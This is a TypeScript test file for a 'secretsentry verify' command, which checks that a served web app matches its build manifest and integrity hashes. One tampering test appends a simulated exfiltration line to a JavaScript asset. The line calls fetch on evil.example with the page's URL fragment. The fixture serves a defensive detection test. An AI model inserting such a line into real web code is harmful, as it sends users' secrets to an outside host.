/** @module `secretsentry verify`: passes against an instance serving the built app, fails naming every tampered, missing or extra file. */
import crypto from 'node:crypto'
import fs from 'node:fs'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { buildBundle, cleanUp, cli, serve, tempDir, type Bundle } from '../test/support.ts'
import { integrityMatches, subresources, verifyInstance } from './verify.ts'

// The command as shipped: its built-in manifest and the web copy beside it come from one build.
let bundle: Bundle
let manifest: Record<string, string>
// The entry script and a stylesheet of the main page, as its SRI tags name them.
let assetJs: string
let assetCss: string

beforeAll(() => {
  bundle = buildBundle()
  manifest = bundle.manifest
  const mainPage = subresources(fs.readFileSync(path.join(bundle.web, 'index.html'), 'utf8'))
  assetJs = mainPage.find((r) => r.url.endsWith('.js'))?.url.slice(1) as string
  assetCss = mainPage.find((r) => r.url.endsWith('.css'))?.url.slice(1) as string
})
afterEach(cleanUp)
afterAll(() => bundle.remove())

/** A copy of the built web app to tamper with. */
function webCopy(): string {
  const dir = path.join(tempDir('ss-web-'), 'web')
  fs.cpSync(bundle.web, dir, { recursive: true })
  return dir
}

const run = (args: string[]) => cli(args, { bundle: bundle.file })
const serveIt = (flags: string[] = []) => serve(flags, { bundle: bundle.file })

const line = (status: string, file: string) =>
  new RegExp(`^${status} +${file.replaceAll('.', '\\.')}(  |$)`, 'm')

describe('secretsentry verify', () => {
  it('passes against a running instance serving the built app, every file ok, exit 0', async () => {
    const server = await serveIt()
    const r = await run(['verify', server.url])
    expect(r.err).toBe('')
    expect(r.code).toBe(0)
    for (const file of Object.keys(manifest)) expect(r.out).toMatch(line('ok', file))
    expect(r.out).toMatch(line('ok', '/'))
    expect(r.out).toMatch(line('ok', '/s'))
    expect(r.out).toMatch(/^ok +SRI \/ → \/assets\/.*\.js$/m)
    expect(r.out).toMatch(/^ok +SRI \/s → \/assets\/.*\.js$/m)
    expect(r.out).toMatch(/^Verified: /m)
    expect(r.out).not.toMatch(/MISMATCH|missing|extra/)
  })

  it('fails against a tampered copy of the static dir, naming the file, exit 1', async () => {
    const web = webCopy()
    fs.appendFileSync(path.join(web, assetJs), '\n;fetch("https://evil.example/"+location.hash)')
    const server = await serveIt(['--static-dir', web])
    const r = await run(['verify', server.url])
    expect(r.code).toBe(1)
    expect(r.out).toMatch(line('MISMATCH', assetJs))
    // Its SRI hash in the pages no longer matches either, and the rest is fine.
    expect(r.out).toMatch(new RegExp(`^MISMATCH +SRI / → /${assetJs.replaceAll('.', '\\.')}$`, 'm'))
    expect(r.out).toMatch(line('ok', 'index.html'))
    expect(r.out).toMatch(/^NOT VERIFIED: \d+ difference\(s\)/m)
  })

  it('names a changed page, a missing file and an extra one, and a manifest rewritten to match', async () => {
    const web = webCopy()
    // The attacker edits the page and rewrites the published manifest to match.
    const page = path.join(web, 'index.html')
    fs.writeFileSync(
      page,
      fs.readFileSync(page, 'utf8').replace('</head>', '<meta name="x" content="y"></head>'),
    )
    fs.rmSync(path.join(web, assetCss))
    fs.writeFileSync(path.join(web, 'extra.js'), 'console.log(1)')
    const published = JSON.parse(
      fs.readFileSync(path.join(web, 'manifest.sha256.json'), 'utf8'),
    ) as Record<string, string>
    published['index.html'] = crypto
      .createHash('sha256')
      .update(fs.readFileSync(page))
      .digest('hex')
    published['extra.js'] = crypto.createHash('sha256').update('console.log(1)').digest('hex')
    fs.writeFileSync(path.join(web, 'manifest.sha256.json'), JSON.stringify(published))
    const server = await serveIt(['--static-dir', web])

    const r = await run(['verify', server.url])
    expect(r.code).toBe(1)
    expect(r.out).toMatch(line('MISMATCH', 'index.html'))
    expect(r.out).toMatch(line('MISMATCH', '/'))
    expect(r.out).toMatch(line('missing', assetCss))
    expect(r.out).toMatch(line('extra', 'extra.js'))
    expect(r.out).toMatch(line('ok', 's/index.html'))
  })

  it('fails when the instance publishes no manifest, or cannot be reached', async () => {
    const web = webCopy()
    fs.rmSync(path.join(web, 'manifest.sha256.json'))
    const server = await serveIt(['--static-dir', web])
    const r = await run(['verify', server.url])
    expect(r.code).toBe(1)
    expect(r.out).toMatch(line('missing', '/.well-known/secretsentry/manifest.json'))

    const closed = http.createServer()
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve))
    const { port } = closed.address() as AddressInfo
    await new Promise((resolve) => closed.close(resolve))
    const unreachable = await run(['verify', `http://127.0.0.1:${port}/`])
    expect(unreachable.code).toBe(1)
    expect(unreachable.err).toMatch(/^secretsentry verify: fetch failed: .*ECONNREFUSED/)
  })

  it('asks for uncompressed bytes, and hashes what it gets', async () => {
    // A plain file server that records what verify asks for.
    const encodings: (string | undefined)[] = []
    const server = http.createServer((req, res) => {
      encodings.push(req.headers['accept-encoding'])
      const url = new URL(req.url ?? '/', 'http://x').pathname
      const rel =
        url === '/.well-known/secretsentry/manifest.json'
          ? 'manifest.sha256.json'
          : url === '/'
            ? 'index.html'
            : url === '/s'
              ? 's/index.html'
              : url.slice(1)
      const file = path.join(bundle.web, rel)
      if (!fs.existsSync(file)) {
        res.writeHead(404).end()
        return
      }
      res.writeHead(200).end(fs.readFileSync(file))
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    try {
      const { port } = server.address() as AddressInfo
      const report = await verifyInstance(new URL(`http://127.0.0.1:${port}/`), manifest)
      expect(report.files.filter((f) => f.status !== 'ok')).toEqual([])
      expect(report.ok).toBe(true)
      expect(encodings.length).toBeGreaterThan(Object.keys(manifest).length)
      expect(new Set(encodings)).toEqual(new Set(['identity']))
    } finally {
      await new Promise((resolve) => server.close(resolve))
    }
  })
})

describe('SRI parsing', () => {
  it('finds scripts, stylesheets and modulepreloads with their integrity, and nothing else', () => {
    const html = `<link rel="icon" href="/favicon.svg">
<script type="module" crossorigin src="/assets/a.js" integrity="sha384-AAA"></script>
<link rel="modulepreload" crossorigin href="/assets/b.js" integrity="sha384-BBB">
<link rel="stylesheet" crossorigin href="/assets/c.css">`
    expect(subresources(html)).toEqual([
      { url: '/assets/a.js', integrity: 'sha384-AAA' },
      { url: '/assets/b.js', integrity: 'sha384-BBB' },
      { url: '/assets/c.css', integrity: null },
    ])
  })

  it('matches sha256/384/512 values, any of several, and nothing else', () => {
    const bytes = new TextEncoder().encode('console.log(1)')
    const h = (alg: string) => `${alg}-${crypto.createHash(alg).update(bytes).digest('base64')}`
    for (const alg of ['sha256', 'sha384', 'sha512'])
      expect(integrityMatches(h(alg), bytes)).toBe(true)
    expect(integrityMatches(`sha384-wrong ${h('sha384')}`, bytes)).toBe(true)
    expect(integrityMatches(h('sha384'), new TextEncoder().encode('console.log(2)'))).toBe(false)
    expect(
      integrityMatches(`md5-${crypto.createHash('md5').update(bytes).digest('base64')}`, bytes),
    ).toBe(false)
    expect(integrityMatches('', bytes)).toBe(false)
  })
})
